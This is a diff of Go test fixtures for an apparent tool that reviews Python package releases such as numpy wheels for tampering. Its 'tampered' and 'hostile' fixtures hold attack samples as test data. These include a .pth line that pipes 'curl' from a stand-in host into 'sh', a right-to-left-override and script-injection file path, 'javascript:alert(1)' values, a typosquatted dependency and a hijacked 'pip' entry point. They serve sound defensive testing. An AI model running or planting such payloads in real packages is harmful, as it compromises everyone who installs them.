@@ -103,8 +103,11 @@ func numpyNames() (names []string) {
 // looked is the same release after everything about it was looked at.
 func looked(t testing.TB) Facts {
 	f := numpy(t)
-	f.Findings = Findings{Done: true, List: []rule.Finding{
-		{Rule: rule.MetadataMatch, Severity: rule.Remark, File: f.Review.Files[0].Name, Where: "numpy.libs", What: "bundles 2 native libraries"}}}
+	for i := range f.Review.Files {
+		f.Review.Files[i].Contents = dist.Contents{Members: 1400, Unpacked: 4 * f.Review.Files[i].Size, EntryPoints: []dist.EntryPoint{
+			{Group: "console_scripts", Name: "f2py", Object: "numpy.f2py.f2py2e:main"}}}
+	}
+	f.find(0, rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Remark, Where: "numpy.libs", What: "bundles 2 native libraries"})
 	since := approval.Since{Version: "2.4.1", Relation: approval.Earlier, Uploaded: "2026-01-10T09:00:00Z", Wheels: 71,
 		Metadata: []approval.Difference{{Field: "Classifier", Now: "Programming Language :: Python :: 3.15", Files: 72}},
 		Members: []approval.MemberChange{
@@ -126,6 +129,13 @@ func looked(t testing.TB) Facts {
 	return f
 }
 
+// find puts a finding into a file.
+func (f Facts) find(file int, found rule.Finding) {
+	at := &f.Review.Files[file]
+	found.File = at.Name
+	at.Contents.Findings = append(at.Contents.Findings, found)
+}
+
 // tampered is a release with one of everything that somebody might try.
 func tampered(t testing.TB) Facts {
 	f := looked(t)
@@ -133,14 +143,13 @@ func tampered(t testing.TB) Facts {
 	for _, file := range f.Review.Files[:71] {
 		wheels = append(wheels, file.Name)
 	}
-	for _, wheel := range wheels {
-		f.Findings.List = append(f.Findings.List, rule.Finding{Rule: rule.OneSource, Severity: rule.Look, File: wheel,
+	for i := range wheels {
+		f.find(i, rule.Finding{Rule: rule.OneSource, Severity: rule.Look,
 			Where: "numpy-init.pth", What: "runs code at every start of Python: import os; os.system('curl -s https://numpy.example/x | sh')"})
 	}
-	f.Findings.List = append(f.Findings.List,
-		rule.Finding{Rule: rule.OneVersion, Severity: rule.Refuse, File: "numpy-2.4.2.tar.gz", Where: "PKG-INFO", What: "says version 2.5.0.dev0"},
-		rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Look, File: wheels[3], Where: "numpy/_core/\u202etxt.exe\x1b[31m<script>alert(1)</script>", What: "has a native library for another machine"},
-	)
+	f.find(71, rule.Finding{Rule: rule.OneVersion, Severity: rule.Refuse, Where: "PKG-INFO", What: "says version 2.5.0.dev0"})
+	f.find(3, rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Look,
+		Where: "numpy/_core/\u202etxt.exe\x1b[31m<script>alert(1)</script>", What: "has a native library for another machine"})
 	since := &f.Changes.Since[0]
 	since.Metadata = append(since.Metadata, approval.Difference{Field: "Requires-Dist", Now: "requests-toolbet>=1.0", Files: 71})
 	since.EntryPoints = append(since.EntryPoints, approval.Difference{Field: "console_scripts", Now: "pip = numpy._pip:main", Files: 71})
@@ -170,8 +179,12 @@ func hostile(t testing.TB) Facts {
 		file.Evidence[0] = attest.Evidence{SAN: evil, Run: "javascript:alert(1)" + evil, Commit: evil, Ref: evil, Trigger: evil,
 			Environment: evil, Runner: evil, Elsewhere: evil}
 	}
-	f.Findings.Gaps, f.Match.Gaps = []approval.Gap{{What: evil, Why: evil}}, []approval.Gap{{What: evil, Why: evil}}
-	f.Findings.List = append(f.Findings.List, rule.Finding{Rule: rule.ID(evil), Severity: rule.Severity(evil), File: evil, Where: evil, What: evil})
+	f.Match.Gaps = []approval.Gap{{What: evil, Why: evil}}
+	f.find(2, rule.Finding{Rule: rule.ID(evil), Severity: rule.Severity(evil), Where: evil, What: evil})
+	f.Review.Files[1].Contents.Startup, f.Review.Files[1].Contents.EntryPoints = []string{evil}, []dist.EntryPoint{{Group: evil, Name: evil, Object: evil}}
+	f.Review.Files[0].Contents = dist.Contents{}
+	f.Review.Origin = staging.Origin{Onto: evil, Artifacts: []staging.Artifact{{Name: evil, Repository: evil, Digest: evil, Superseded: true}},
+		Replaced: []staging.Replacement{{Name: evil}}}
 	since := &f.Changes.Since[0]
 	since.Version, since.Uploaded, since.Gone, since.Before.Version = evil, evil, []string{evil}, evil
 	since.Metadata = append(since.Metadata, approval.Difference{Field: evil, Was: evil, Now: evil})
